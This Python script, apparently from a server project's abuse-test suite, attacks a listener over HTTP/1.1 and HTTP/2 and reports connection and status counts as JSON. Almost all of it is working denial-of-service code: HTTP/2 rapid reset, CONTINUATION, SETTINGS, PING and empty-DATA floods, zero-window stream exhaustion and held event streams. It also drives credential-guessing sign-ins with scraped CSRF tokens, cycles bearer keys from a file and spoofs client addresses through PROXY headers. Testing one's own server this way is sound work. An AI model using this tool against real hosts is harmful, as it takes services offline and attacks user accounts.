#!/usr/bin/env python3
"""Attacks a listener on the loopback over HTTP/1.1 and HTTP/2, for the abuse suite.

attack.py KIND HOST PORT SECONDS CONNECTIONS SOURCE [VALUE] prints, as JSON, how many connections it opened, how many
the server closed, and the statuses of HTTP/1.1 responses. SOURCE is an address, or an IPv6 /48 that PROXY headers name.
VALUE is a session cookie or a file with keys. It needs only Python.
"""
import asyncio
import collections
import ipaddress
import json
import random
import sys
import time
import urllib.parse

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 500


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


SETTINGS = frame(4, 0, 0)
# GET / with the authority "x", encoded with HPACK's static table.
REQUEST = b"\x82\x86\x84\x41\x01x"
NEVER_INDEXED = b"\x10\x01a\x01b"


def rapid_reset():
    stream = 1
    while stream < 2**31 - 2 * BATCH:
        streams = range(stream, stream + 2 * BATCH, 2)
        yield b"".join(frame(1, 5, each, REQUEST) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)
        stream += 2 * BATCH


def forever(first, repeated):
    yield first
    while True:
        yield repeated * BATCH


FLOODS = {
    "rapid_reset": rapid_reset,
    "continuation": lambda: forever(frame(1, 1, 1, REQUEST), frame(9, 0, 1, NEVER_INDEXED * 8)),
    "empty_data": lambda: forever(frame(1, 4, 1, REQUEST), frame(0, 0, 1)),
    "settings": lambda: forever(b"", SETTINGS),
    "ping": lambda: forever(b"", frame(6, 0, 0, b"12345678")),
}


# Streams without a window: INITIAL_WINDOW_SIZE is 0.
NO_WINDOW = frame(4, 0, 0, (4).to_bytes(2, "big") + bytes(4))
STREAMS = 100
TICK_S = 1
# Where PROXY headers come from, in the settings of the attacked node.
PROXY_ADDRESS = "127.0.1.1"


def unread_streams(first, paths):
    """Requests for large responses, with path and authority as HPACK literals."""
    for stream, path in zip(range(first, first + 2 * STREAMS, 2), paths):
        yield frame(1, 5, stream, b"\x82\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x01x")


def endless(paths):
    while True:
        yield from paths


def http1(method, path, headers, body=""):
    lines = [f"{method} {path} HTTP/1.1", "host: localhost", f"content-length: {len(body)}", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


class Attack:
    def __init__(self, host, port, seconds, source, value):
        self.host, self.port, self.end = host, port, time.monotonic() + seconds
        self.network = ipaddress.ip_network(source) if "/" in source else None
        self.source, self.value = PROXY_ADDRESS if self.network else source, value
        self.opened = self.closed = 0
        self.form = self.keys = None
        self.statuses = collections.Counter()

    def is_running(self):
        return time.monotonic() < self.end

    async def connect(self):
        connecting = asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))
        reader, writer = await asyncio.wait_for(connecting, 10)
        self.opened += 1
        if self.network:
            client = self.network[random.getrandbits(128 - self.network.prefixlen)]
            writer.write(f"PROXY TCP6 {client} ::1 40000 80\r\n".encode())
        return reader, writer

    async def hold(self, first, next_bytes):
        """Sends the first bytes, and more after every tick."""
        reader, writer = await self.connect()
        try:
            writer.write(first)
            while self.is_running():
                try:
                    if not await asyncio.wait_for(reader.read(65536), TICK_S):
                        break
                except asyncio.TimeoutError:
                    writer.write(next_bytes())
        finally:
            writer.transport.abort()

    async def unread_http2(self, trickles):
        """Opens streams without a window, again and again. May let each have a byte at every tick."""
        paths, opened = endless(self.value.split(",")), []

        def open_streams():
            first = 2 * len(opened) + 1
            opened.extend(range(first, first + 2 * STREAMS, 2))
            return b"".join(unread_streams(first, paths))

        def next_bytes():
            one = (1).to_bytes(4, "big")
            updates = b"".join(frame(8, 0, stream, one) for stream in opened[-4 * STREAMS:]) if trickles else b""
            return updates + open_streams()

        await self.hold(PREFACE + NO_WINDOW + open_streams(), next_bytes)

    async def event_streams(self):
        cookie = f"cookie: __Host-ipseity={self.value}"
        await self.hold(http1("GET", "/events", [cookie, "accept: text/event-stream"]), lambda: b"")

    async def requests(self, build):
        reader, writer = await self.connect()
        try:
            while self.is_running():
                writer.write(build())
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                lines = head.decode("latin-1").lower().split("\r\n")
                self.statuses[lines[0].split()[1]] += 1
                lengths = [int(line.split(":")[1]) for line in lines if line.startswith("content-length:")]
                await asyncio.wait_for(reader.readexactly(sum(lengths)), 10)
                if not lengths or "connection: close" in lines:
                    break
        except asyncio.IncompleteReadError:
            pass
        finally:
            writer.transport.abort()

    async def sign_ins(self):
        if not self.form:
            self.form = await self.read_form()
        cookie, token = self.form

        def build():
            email = f"member{random.randrange(10**6)}@example.com"
            fields = {"csrf": token, "email": email, "password": "wrong horse battery"}
            headers = [f"cookie: {cookie}", "content-type: application/x-www-form-urlencoded", "sec-fetch-site: same-origin"]
            return http1("POST", "/signin", headers, urllib.parse.urlencode(fields))

        await self.requests(build)

    async def read_form(self):
        """The cookie and the token of the sign-in page."""
        reader, writer = await self.connect()
        try:
            writer.write(http1("GET", "/signin", ["connection: close"]))
            page = (await asyncio.wait_for(reader.read(), 10)).decode()
        finally:
            writer.transport.abort()
        cookie = page.partition("set-cookie: ")[2].partition(";")[0]
        return cookie, page.partition('name="csrf" value="')[2].partition('"')[0]

    async def unknown_keys(self):
        if not self.keys:
            with open(self.value) as file:
                self.keys = file.read().split()
        await self.requests(lambda: http1("GET", "/api/v1/ip", [f"authorization: Bearer {random.choice(self.keys)}"]))

    async def repeat(self, once):
        """Reconnects whenever the server closes the connection."""
        while self.is_running():
            try:
                await once()
                self.closed += 1
            except (OSError, asyncio.TimeoutError):
                self.closed += 1
            # Without a pause, immediate rejections would measure this program's connection rate.
            await asyncio.sleep(0.05)

    async def flood(self, kind):
        reader, writer = await self.connect()

        async def drain():
            while await reader.read(65536):
                pass

        draining = asyncio.create_task(drain())
        try:
            writer.write(PREFACE + SETTINGS)
            for chunk in FLOODS[kind]():
                if draining.done() or not self.is_running():
                    break
                writer.write(chunk)
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            draining.cancel()
            writer.transport.abort()


async def main():
    kind, host, port, seconds, connections, source, *value = sys.argv[1:]
    attack = Attack(host, int(port), float(seconds), source, *value or [""])
    once = {
        "unread_http2": lambda: attack.unread_http2(trickles=False),
        "trickle_http2": lambda: attack.unread_http2(trickles=True),
        "event_streams": attack.event_streams,
        "sign_ins": attack.sign_ins,
        "unknown_keys": attack.unknown_keys,
    }.get(kind, lambda: attack.flood(kind))
    await asyncio.gather(*(attack.repeat(once) for _ in range(int(connections))))
    print(json.dumps({"started": attack.opened, "closed": attack.closed, "statuses": attack.statuses}))


asyncio.run(main())
